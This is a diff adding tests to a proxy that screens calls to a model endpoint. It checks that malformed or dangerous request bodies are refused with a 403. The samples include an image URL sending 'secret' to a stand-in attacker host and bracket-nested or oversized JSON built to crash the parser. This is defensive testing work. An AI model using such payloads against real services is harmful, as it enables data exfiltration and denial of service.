@@ -317,11 +317,43 @@ describe('model proxy, what a call asks the endpoint to do', () => {
         'tool web_search_20250305',
       ]);
 
+      // What the proxy cannot read as one JSON object, or that would make the endpoint fetch, is refused, never
+      // forwarded as it came: a BOM, NaN, a URL or file source (nested in a tool result too), a body nested past
+      // what serializing can take (this one crashed pincer).
+      const refusedBodies = [
+        `\ufeff${JSON.stringify(attack)}`,
+        '{"temperature":NaN,"mcp_servers":[1]}',
+        '[1,2]',
+        JSON.stringify({
+          messages: [
+            { role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'https://attacker.example/x.png?d=secret' } }] },
+          ],
+        }),
+        JSON.stringify({
+          messages: [
+            {
+              role: 'user',
+              content: [
+                { type: 'tool_result', tool_use_id: 't', content: [{ type: 'document', source: { type: 'file', file_id: 'file_1' } }] },
+              ],
+            },
+          ],
+        }),
+        `{"mcp_servers":[],"x":${'['.repeat(200_000)}${']'.repeat(200_000)}}`,
+        `{"x":[${Array(600_000).fill('{}').join(',')}]}`,
+      ];
+      const before = endpoint.bodies.length;
+      for (const body of refusedBodies) assert.equal(await post(proxy.socketPath, body), 403, body.slice(0, 80));
+      assert.equal(endpoint.bodies.length, before, 'a refused body reached the endpoint');
+      // A duplicate key goes on as the proxy read it: one key, screened.
+      await post(proxy.socketPath, '{"model":"m","tools":[{"type":"web_fetch_20250910","name":"f"}],"tools":[{"name":"Bash"}]}');
+      assert.equal(endpoint.bodies.at(-1), '{"model":"m","tools":[{"name":"Bash"}]}');
+
       // A group that may go out keeps Claude Code's web search; a call with nothing to take out goes byte for byte.
       searchAllowed = true;
       const search = JSON.stringify({ model: 'm', messages: [], tools: [{ type: 'web_search_20250305', name: 'web_search' }] });
       await post(proxy.socketPath, search);
-      assert.equal(endpoint.bodies[1], search);
+      assert.equal(endpoint.bodies.at(-1), search);
       assert.equal(screened.length, 1);
     } finally {
       await proxy.close();
